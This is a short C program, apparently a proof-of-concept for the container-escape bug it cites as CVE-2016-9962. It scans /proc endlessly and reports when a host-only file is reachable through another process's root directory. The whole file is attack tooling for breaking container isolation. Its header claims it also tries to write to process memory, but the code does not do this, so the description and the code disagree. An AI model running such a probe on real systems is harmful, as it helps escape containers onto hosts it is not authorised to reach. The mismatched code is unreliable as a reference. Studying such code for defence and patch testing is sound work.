/*
 * Looks at every other process through /proc/N/root, as fast as it can, for a file that only the host has; and tries to open
 * the process's memory for writing. Says which it could reach. [CVE-2016-9962]
 * usage: steal-root FILE
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int count, char **arguments) {
	char path[4096], exe[4096];
	setvbuf(stdout, NULL, _IONBF, 0);
	for (;;) {
		DIR *processes = opendir("/proc");
		struct dirent *entry;
		while ((entry = readdir(processes)) != NULL) {
			int pid = atoi(entry->d_name);
			struct stat found;
			if (pid == 0 || pid == getpid() || count < 2)
				continue;
			snprintf(path, sizeof path, "/proc/%d/root%s", pid, arguments[1]);
			if (stat(path, &found) == 0)
				puts("host root reached");
		}
		closedir(processes);
	}
}
